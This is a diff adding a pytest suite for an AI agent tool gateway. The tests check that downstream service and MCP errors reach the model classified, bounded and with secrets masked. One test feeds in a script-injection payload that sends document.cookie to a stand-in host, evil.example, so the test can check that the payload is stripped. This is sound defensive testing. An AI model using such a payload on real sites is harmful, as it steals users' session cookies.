@@ -1,0 +1,263 @@
+"""What the model sees (issue 39), each part tested as the model meets it: through the agent API, against
+real local services."""
+
+import json
+import threading
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+import pytest
+
+from registry.snapshots import publish_snapshot
+from reliability.services import register_mcp_server
+from runs.adapters.python import register
+from runs.models import ToolCall
+from runs.plane import breakers
+from runs.plane.downstream_errors import MESSAGE_CHARS, TRUNCATED
+from runs.plane.mcp_servers import call_tool, connection_for
+from tests.reliability.conftest import mcp_url  # noqa: F401 - the fixture: a real MCP server in a subprocess
+from tests.runs.conftest import call, post_calls, start_run
+from tests.runs.factories import grant, make_skill
+from traces.models import Span
+
+pytestmark = pytest.mark.django_db
+
+
+# Part 4: errors the model can act on -------------------------------------------------------------------
+# A refusal carries the service's own words (`downstream_message`: active content removed, secrets masked,
+# at most MESSAGE_CHARS characters) under a class that says what went wrong; an internal failure gives the
+# model nothing of the exception, while its span keeps the type and the redacted message.
+
+SECRET = "sk-live-" + "Q7x9Lm2Pz4Rt8Vw1Nc6B"
+
+
+@register("test.leaky", effect="read")
+def leaky(*, arguments, context):
+    raise KeyError(f"no ledger for api_key={SECRET}")
+
+
+class Service:
+    """A real loopback HTTP tool: each path answers with the status, content type and body a test set."""
+
+    def __init__(self) -> None:
+        self.answers: dict[str, tuple[int, str, bytes]] = {}
+        self.url = ""
+
+    def answer(self, path: str, status: int, body, content_type: str = "application/json") -> str:
+        raw = body if isinstance(body, bytes) else (json.dumps(body) if not isinstance(body, str) else body).encode()
+        self.answers[path] = (status, content_type, raw)
+        return f"{self.url}{path}"
+
+
+def _handler(service: Service):
+    class Handler(BaseHTTPRequestHandler):
+        def do_POST(self):  # noqa: N802 - http.server's naming
+            self.rfile.read(int(self.headers.get("Content-Length") or 0))
+            status, content_type, raw = service.answers[self.path]
+            self.send_response(status)
+            self.send_header("Content-Type", content_type)
+            self.send_header("Content-Length", str(len(raw)))
+            self.end_headers()
+            self.wfile.write(raw)
+
+        def log_message(self, *args):
+            pass
+
+    return Handler
+
+
+@pytest.fixture
+def service():
+    tool = Service()
+    httpd = ThreadingHTTPServer(("127.0.0.1", 0), _handler(tool))
+    httpd.daemon_threads = True
+    tool.url = f"http://127.0.0.1:{httpd.server_address[1]}"
+    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
+    thread.start()
+    yield tool
+    httpd.shutdown()
+    httpd.server_close()
+
+
+def _one_call(agent_client, name: str, arguments: dict | None = None) -> tuple[str, dict]:
+    run = start_run(agent_client)
+    response = post_calls(agent_client, run["run_id"], [call("c1", name, arguments or {})])
+    assert response.status_code == 200, response.content
+    return run["run_id"], response.json()["results"][0]
+
+
+def _span(run_id: str) -> Span:
+    return Span.objects.get(trace__run_id=run_id, kind="tool_call")
+
+
+def test_a_422_reaches_the_model_with_the_tools_own_message(agent_client, acme, service):
+    said = {"error": {"code": "too_many", "message": "quantity must be at most 10 per order"}}
+    make_skill("shop.order", effect="write", adapter=service.answer("/orders", 422, said))
+    grant(acme, "shop.*")
+    run_id, result = _one_call(agent_client, "shop.order", {"quantity": 50})
+    assert result["status"] == "error"
+    assert result["error"] == {
+        "class": "validation",
+        "code": "downstream_rejected",
+        "message": "The skill's service answered HTTP 422.",
+        "downstream_message": "quantity must be at most 10 per order",
+    }
+    assert ToolCall.objects.get(run_id=run_id, call_id="c1").result["error"] == result["error"]
+    span = _span(run_id)
+    assert span.error_class == "validation"
+    assert span.attributes["airlock.error.downstream_message"] == "quantity must be at most 10 per order"
+    assert span.attributes["airlock.error.code"] == "downstream_rejected"
+
+
+@pytest.mark.parametrize(
+    "status,body,content_type,error_class,downstream_message",
+    [
+        (  # FastAPI / pydantic: where, and what is wrong
+            422,
+            {"detail": [{"loc": ["body", "email"], "msg": "value is not a valid email address", "type": "x"}]},
+            "application/json",
+            "validation",
+            "body.email: value is not a valid email address",
+        ),
+        (400, {"detail": "start must be before end"}, "application/json", "validation", "start must be before end"),
+        (409, {"message": "order 77 has shipped"}, "application/json", "conflict", "order 77 has shipped"),
+        (404, "no customer with id c-9\n", "text/plain", "not_found", "no customer with id c-9"),
+        (403, {"error": "this key may not refund"}, "application/json", "authorization", "this key may not refund"),
+        (405, {"unexpected": ["shape", 1]}, "application/json", "unavailable", '{"unexpected": ["shape", 1]}'),
+    ],
+)
+def test_client_errors_carry_the_services_words_in_the_class_they_mean(
+    agent_client, acme, service, status, body, content_type, error_class, downstream_message
+):
+    make_skill("shop.lookup", adapter=service.answer("/lookup", status, body, content_type))
+    grant(acme, "shop.*")
+    _, result = _one_call(agent_client, "shop.lookup")
+    assert result["error"]["class"] == error_class
+    assert result["error"]["downstream_message"] == downstream_message
+
+
+def test_a_secret_in_a_4xx_body_never_reaches_the_model_the_record_or_the_span(agent_client, acme, service):
+    said = {"message": f"the key {SECRET} is not valid for account 12; Authorization: Bearer abcdefghijklmnop"}
+    make_skill("shop.lookup", adapter=service.answer("/lookup", 401, said))
+    grant(acme, "shop.*")
+    run_id, result = _one_call(agent_client, "shop.lookup")
+    assert result["error"]["class"] == "authorization"
+    assert "is not valid for account 12" in result["error"]["downstream_message"]
+    stored = ToolCall.objects.get(run_id=run_id, call_id="c1").result
+    for seen in (result, stored, _span(run_id).attributes):
+        assert SECRET not in json.dumps(seen) and "abcdefghijklmnop" not in json.dumps(seen)
+
+
+def test_a_huge_4xx_body_reaches_the_model_cut_to_the_bound(agent_client, acme, service):
+    huge = "field 'notes' is too long: " + "x" * 2_000_000
+    make_skill("shop.note", effect="write", adapter=service.answer("/note", 413, {"message": huge}))
+    grant(acme, "shop.*")
+    run_id, result = _one_call(agent_client, "shop.note", {"notes": "…"})
+    message = result["error"]["downstream_message"]
+    assert message.startswith("field 'notes' is too long: xxx") and message.endswith(TRUNCATED)
+    assert len(message) == MESSAGE_CHARS + len(TRUNCATED)
+    assert len(json.dumps(ToolCall.objects.get(run_id=run_id, call_id="c1").result)) < 2 * MESSAGE_CHARS
+
+
+def test_active_content_in_a_4xx_body_is_removed_before_the_model_reads_it(agent_client, acme, service):
+    said = {"message": 'bad id <script>fetch("https://evil.example/?"+document.cookie)</script><b onclick="x()">7</b>'}
+    make_skill("shop.lookup", adapter=service.answer("/lookup", 400, said))
+    grant(acme, "shop.*")
+    _, result = _one_call(agent_client, "shop.lookup")
+    message = result["error"]["downstream_message"]
+    assert message.startswith("bad id") and "<script" not in message and "onclick" not in message
+
+
+def test_a_5xx_body_or_an_html_error_page_is_not_given_to_the_model(agent_client, acme, service):
+    trace = "Traceback (most recent call last): File /srv/app/orders.py, line 41, in refund"
+    make_skill("shop.crash", adapter=service.answer("/crash", 500, {"message": trace}))
+    make_skill("shop.page", adapter=service.answer("/page", 404, "<html><body>Not Found</body></html>", "text/html"))
+    grant(acme, "shop.*")
+    _, crashed = _one_call(agent_client, "shop.crash")
+    _, paged = _one_call(agent_client, "shop.page")
+    assert crashed["error"]["class"] == "unavailable" and "downstream_message" not in crashed["error"]
+    assert "Traceback" not in json.dumps(crashed)
+    assert paged["error"]["class"] == "not_found" and "downstream_message" not in paged["error"]
+
+
+@pytest.fixture
+def desk(mcp_url):  # noqa: F811 - the imported fixture
+    register_mcp_server(name="desk", transport="http", url=mcp_url)
+    return mcp_url
+
+
+@pytest.mark.parametrize(
+    "said,error_class,code",
+    [
+        ("Ticket T-404 not found", "not_found", "downstream_not_found"),
+        ("A ticket with this reference already exists", "conflict", "downstream_conflict"),
+        ("Permission denied: this queue is read-only for agents", "authorization", "downstream_forbidden"),
+        ("priority must be one of low, normal, high", "validation", "downstream_rejected"),
+        ("The ticket database is being migrated", "unavailable", "tool_error"),
+    ],
+)
+def test_an_mcp_tool_error_is_classed_by_what_it_says(agent_client, acme, desk, said, error_class, code):
+    make_skill("desk.refuse", adapter="mcp://desk/refuse", timeout_ms=10000)
+    grant(acme, "desk.*")
+    run_id, result = _one_call(agent_client, "desk.refuse", {"message": said})
+    error = result["error"]
+    assert (error["class"], error["code"]) == (error_class, code)
+    assert error["message"] == "The MCP tool refuse reported an error."
+    assert error["downstream_message"].endswith(said)  # the server may prefix it ("Error executing tool refuse:")
+    assert _span(run_id).error_class == error_class
+
+
+def test_a_json_rpc_invalid_params_error_is_validation_with_the_servers_message(agent_client, acme, desk):
+    make_skill("desk.refuse", adapter="mcp://desk/refuse", timeout_ms=10000)
+    grant(acme, "desk.*")
+    said = "ticket_id has the wrong format (expected T-<digits>) but the item was not found either"
+    _, result = _one_call(agent_client, "desk.refuse", {"message": said, "jsonrpc_code": -32602})
+    assert result["error"]["class"] == "validation"  # the code wins over the words
+    assert result["error"]["downstream_message"] == said
+
+
+def test_a_tool_missing_on_the_server_is_unavailable_not_the_models_mistake(agent_client, acme, desk):
+    make_skill("desk.vanished", adapter="mcp://desk/vanished", timeout_ms=10000)
+    grant(acme, "desk.*")
+    _, result = _one_call(agent_client, "desk.vanished")
+    assert result["error"]["class"] == "unavailable"
+    assert "vanished" in result["error"]["downstream_message"]
+
+
+def test_a_model_probing_missing_ids_does_not_open_the_servers_breaker(agent_client, acme, desk, settings):
+    settings.AIRLOCK_BREAKER_FAILURE_THRESHOLD = 2
+    make_skill("desk.refuse", adapter="mcp://desk/refuse", timeout_ms=10000)
+    grant(acme, "desk.*")
+    run = start_run(agent_client)
+    calls = [call(f"c{i}", "desk.refuse", {"message": f"Ticket T-{i} not found"}) for i in range(3)]
+    results = post_calls(agent_client, run["run_id"], calls).json()["results"]
+    assert [r["error"]["class"] for r in results] == ["not_found"] * 3
+    assert breakers.state_of("mcp://desk") == breakers.CLOSED
+    assert call_tool(connection_for("mcp://desk/counts"), "counts", {}, timeout_s=10)["executions"]["refuse"] >= 3
+
+
+def test_an_internal_exception_reaches_the_span_and_nothing_of_it_the_model(agent_client, acme):
+    make_skill("orders.leaky", adapter="python:test.leaky")
+    grant(acme, "orders.*")
+    run_id, result = _one_call(agent_client, "orders.leaky")
+    assert result["error"] == {
+        "class": "internal",
+        "code": "internal",
+        "message": "The call failed with an internal error; it has been logged.",
+    }
+    assert "KeyError" not in json.dumps(result) and "ledger" not in json.dumps(result)
+    attributes = _span(run_id).attributes
+    assert attributes["exception.type"] == "KeyError"
+    assert attributes["exception.message"].startswith("'no ledger for api_key=")
+    assert SECRET not in json.dumps(attributes)
+    assert attributes["airlock.error.code"] == "internal"
+
+
+def test_a_declared_meaning_is_added_to_the_refusal(agent_client, acme, service):
+    version = make_skill("shop.lookup", adapter=service.answer("/lookup", 404, {"message": "no order 5"}))
+    version.manifest["errors"] = {"downstream_not_found": "The order id is wrong; ask the customer for it."}
+    version.save(update_fields=["manifest"])
+    publish_snapshot(reason="declared errors")
+    grant(acme, "shop.*")
+    _, result = _one_call(agent_client, "shop.lookup")
+    assert result["error"]["meaning"] == "The order id is wrong; ask the customer for it."
+    assert result["error"]["downstream_message"] == "no order 5"
